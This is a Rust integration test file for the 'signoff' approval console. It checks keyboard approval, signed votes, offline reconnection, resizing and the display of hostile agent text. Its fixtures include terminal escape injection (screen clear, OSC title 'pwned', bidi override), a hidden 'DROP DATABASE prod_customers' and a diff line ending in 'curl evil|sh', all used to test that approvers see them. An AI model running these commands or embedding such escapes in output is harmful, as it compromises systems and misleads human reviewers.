//! The real `signoff` binary in a pseudo-terminal, its screen parsed with `vt100`:
//! wait for text, press keys, read the screen, and check what reached the broker.
//!
//! Against the real broker (`console_support::real_broker`), except where the test needs a
//! fault the real broker does not make on demand: going away and coming back with the
//! same state (the stand-in `FakeBroker`).

mod console_support;

use console_support::pty::{Pty, fresh, wait_key_registered};
use console_support::{FakeBroker, get_json, real_broker, request_of, submit};
use signoff::console::fixtures::{action, hostile_action};
use signoff::protocol::messages::ClientMsg;
use signoff::protocol::{RiskLevel, Verdict};

/// The approver approves with the keyboard against the real broker; a bracketed paste
/// ending in a newline never confirms; the broker accepts the signature over the digest
/// it computed for what the console showed, and the audit log verifies it.
#[test]
fn approve_with_the_keyboard_signs_the_displayed_digest() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let (data, broker) = real_broker(&rt);
    let url = broker.url();
    let a = action(1, "db.export", "customers", "production", RiskLevel::High);
    let created = submit(&rt, &url, &request_of(&a));
    let mut pty = Pty::console(100, 30, &url, "bob-secret", 4);
    pty.wait_for("db.export on customers", 30);
    pty.wait_for("● live", 10);
    // The key registration must land before the decision.
    wait_key_registered(&rt, &url, "bob-secret", 4);
    pty.press("a");
    pty.wait_for("Approve: db.export on customers", 10);
    pty.wait_for("your approval completes the quorum", 5);
    // A bracketed paste ending in a newline must not confirm.
    pty.press("\x1b[200~ticket DATA-1234\x1b[201~");
    pty.wait_for("[ticket DATA-1234", 5);
    pty.press("\x1b[200~\r\x1b[201~");
    pty.wait_for("[ticket DATA-1234 ", 5);
    assert!(
        pty.contents().contains("Approve: db.export"),
        "still open after a pasted newline"
    );
    pty.press("\x7f"); // backspace the pasted space
    pty.wait_for("[ticket DATA-1234▏]", 5);
    pty.press("\r");
    pty.wait_for("db.export postgres/customers approved (audit", 10);
    pty.wait_for("No pending actions", 5);
    let path = format!("/v1/actions/{}", created.id);
    let view: signoff::protocol::api::ActionView = get_json(&rt, &url, &path, "agent-secret");
    assert_eq!(view.action.status, signoff::protocol::Status::Approved);
    let vote = &view.action.votes[0];
    assert_eq!(vote.verdict, Verdict::Approve);
    assert_eq!(vote.reason, "ticket DATA-1234");
    let vk = ed25519_dalek::SigningKey::from_bytes(&[4; 32]).verifying_key();
    assert_eq!(
        vote.key_id,
        signoff::protocol::KeyId::of(&vk),
        "the device key"
    );
    pty.press("q");
    assert!(pty.wait_exit(10).success());
    rt.block_on(broker.shutdown()).unwrap();
    // Signed over the digest of the action as created (the chain checks each vote's
    // signature and digest against the action_created entry).
    let summary = signoff::broker::cli::verify(data.path()).expect("audit log verifies");
    assert!(summary.contains("1 vote signatures verified"), "{summary}");
}

#[test]
fn hostile_text_is_visible_on_a_real_terminal() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let (_data, broker) = real_broker(&rt);
    submit(&rt, &broker.url(), &request_of(&hostile_action(1)));
    let mut pty = Pty::console(160, 48, &broker.url(), "bob-secret", 5);
    pty.wait_for("⟨ESC⟩[2J", 30);
    assert!(
        !pty.restored(),
        "runs on the alternate screen with mouse reporting"
    );
    // The row comes first and the body (fetched on view) a frame later: wait for each.
    pty.wait_for("⟨U+202E⟩", 30);
    pty.wait_for("ops-bot⟨ESC⟩]0;pwned⟨BEL⟩", 30);
    // The screen was not cleared by the agent's ESC[2J: the queue is still there.
    let screen = pty.contents();
    assert!(screen.contains("Queue 1 pending"), "{screen}");
    pty.press("q");
    assert!(pty.wait_exit(10).success());
    assert!(pty.restored(), "terminal restored after quit");
}

#[test]
fn an_unreachable_broker_shows_the_reconnect_state() {
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let mut pty = Pty::console(80, 24, &format!("http://127.0.0.1:{port}"), "t", 6);
    pty.wait_for("reconnecting (attempt 2", 30);
    pty.press("?");
    pty.wait_for("? or Esc to close", 5);
    // A lone Esc followed at once by `q` would read as Alt-q, as in any terminal app.
    pty.press("\x1b");
    pty.wait_gone("? or Esc to close", 5);
    pty.press("q");
    assert!(pty.wait_exit(10).success());
}

#[test]
fn resizing_relayouts_and_a_tiny_window_says_so() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let a = fresh(action(
        1,
        "db.export",
        "customers",
        "production",
        RiskLevel::High,
    ));
    let (_data, broker) = real_broker(&rt);
    submit(&rt, &broker.url(), &request_of(&a));
    let mut pty = Pty::console(100, 30, &broker.url(), "bob-secret", 9);
    pty.wait_for("Tab switches", 30);
    pty.resize(160, 48);
    pty.wait_for("┌ Risk", 10);
    pty.wait_gone("Tab switches", 10);
    pty.resize(50, 10);
    pty.wait_for("Window too small: 50x10", 10);
    pty.resize(80, 24);
    pty.wait_for("Tab switches", 10);
    pty.press("q");
    assert!(pty.wait_exit(10).success());
    assert!(pty.restored());
}

#[test]
fn a_decision_made_offline_is_sent_after_the_broker_comes_back() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let a = fresh(action(
        1,
        "db.export",
        "customers",
        "production",
        RiskLevel::High,
    ));
    let mut broker = rt.block_on(FakeBroker::start("t", "bob", vec![a.clone()]));
    let mut pty = Pty::console(100, 30, &broker.url, "t", 10);
    pty.wait_for("● live", 30);
    broker.wait_key_registered(10);
    match rt.block_on(broker.next_msg(10)) {
        ClientMsg::Hello { resume_after, .. } => assert_eq!(resume_after, None),
        other => panic!("expected the first hello, got {other:?}"),
    }
    // The approver has looked at it: its full content (fetched on view) is on screen.
    pty.wait_for("Why", 30);
    {
        let _rt = rt.enter();
        broker.stop();
    }
    pty.wait_for("reconnecting (attempt", 30);
    pty.wait_for("offline, as last seen", 30);
    pty.press("a");
    pty.wait_for("Offline: sent after reconnect", 30);
    pty.press("\r");
    pty.wait_for("1 decision(s) queued", 30);
    rt.block_on(broker.restart());
    // The console resumes from its last event number and then re-sends the decision.
    let hello = rt.block_on(async {
        loop {
            if let ClientMsg::Hello { resume_after, .. } = broker.next_msg(30).await {
                return resume_after;
            }
        }
    });
    assert_eq!(hello, Some(5), "resumes after the last event it saw");
    let decision = rt.block_on(async {
        loop {
            if let ClientMsg::Decide { decision } = broker.next_msg(10).await {
                return decision;
            }
        }
    });
    assert_eq!(decision.decision.action_digest, a.digest());
    pty.wait_for("db.export postgres/customers approved (audit", 30);
    pty.press("q");
    assert!(pty.wait_exit(10).success());
}

#[test]
fn a_clear_error_without_a_session_or_an_issuer() {
    // An empty data dir (no `signoff login` yet) and no issuer to sign in with.
    let data = tempfile::tempdir().unwrap();
    let mut pty = Pty::spawn(
        100,
        24,
        &[("SIGNOFF_DATA_DIR", data.path().display().to_string())],
    );
    pty.wait_for(
        "signoff: not signed in: run `signoff login --issuer URL --client-id ID`",
        30,
    );
    assert!(pty.contents().contains("issuer and client_id"));
    assert!(!pty.wait_exit(10).success());
    assert!(pty.restored(), "never entered the console");
}

#[test]
fn a_broker_down_at_start_gets_the_key_once_it_is_up() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let mut broker = rt.block_on(FakeBroker::start("t", "bob", vec![]));
    {
        let _rt = rt.enter();
        broker.stop();
    }
    let pty = Pty::console(100, 30, &broker.url, "t", 11);
    pty.wait_for("device key not registered", 30);
    rt.block_on(broker.restart());
    pty.wait_for("● live", 60);
    // Registered on the first connection after the broker came back.
    broker.wait_key_registered(30);
    let vk = ed25519_dalek::SigningKey::from_bytes(&[11; 32]).verifying_key();
    assert_eq!(broker.shared.keys.lock().unwrap()[0], vk);
}

/// Issue 12 on a real terminal: an unterminated OSC in the summary does not swallow the
/// dangerous tail, and the end of a 20,000-column diff line comes on screen with `$`.
#[test]
fn unterminated_osc_and_long_line_tail_are_on_a_real_screen() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let mut a = action(1, "ops.restart", "web", "production", RiskLevel::High);
    a.summary = format!(
        "restart web\u{1b}]0;{} AND DROP DATABASE prod_customers",
        "x".repeat(50)
    );
    let long = format!("+{};TAILMARK-DIFF curl evil|sh", "a".repeat(20_000 - 27));
    a.change = Some(signoff::protocol::Change::UnifiedDiff {
        diff: format!("@@ -1 +1 @@\n-echo ok\n{long}\n"),
    });
    let (_data, broker) = real_broker(&rt);
    submit(&rt, &broker.url(), &request_of(&a));
    let mut pty = Pty::console(160, 48, &broker.url(), "bob-secret", 6);
    // Word-wrapped at 80 columns of context: every word is on screen, in order.
    pty.wait_for("DROP DATABASE prod_customers", 30);
    pty.wait_for("web⟨ESC⟩]0;xxxx", 30);
    let screen = pty.contents();
    assert!(screen.contains("xxxx AND"), "{screen}");
    // The diff pane fills once the body is fetched and checked.
    pty.wait_for("cols 1–", 30);
    let screen = pty.contents();
    assert!(!screen.contains("TAILMARK"), "{screen}");
    // Focus the diff pane, then jump to the end of the line.
    pty.press("\t\t");
    pty.press("$");
    pty.wait_for(";TAILMARK-DIFF curl evil|sh", 10);
    pty.wait_for("of 20,000", 5);
    pty.press("q");
    assert!(pty.wait_exit(10).success());
}

/// Issue 18: a console that never reached its broker says so on the queue pane, with
/// the cause, instead of "No pending actions".
#[test]
fn a_console_that_never_connected_says_why() {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .unwrap();
    let url = format!("http://127.0.0.1:{port}");
    let mut pty = Pty::console(120, 30, &url, "tok", 6);
    pty.wait_for(&format!("Not connected to {url}"), 30);
    pty.wait_for("attempt", 30);
    let screen = pty.contents();
    assert!(
        screen.to_lowercase().contains("refused") && !screen.contains("No pending actions"),
        "{screen}"
    );
    pty.press("q");
    pty.wait_exit(10);
}
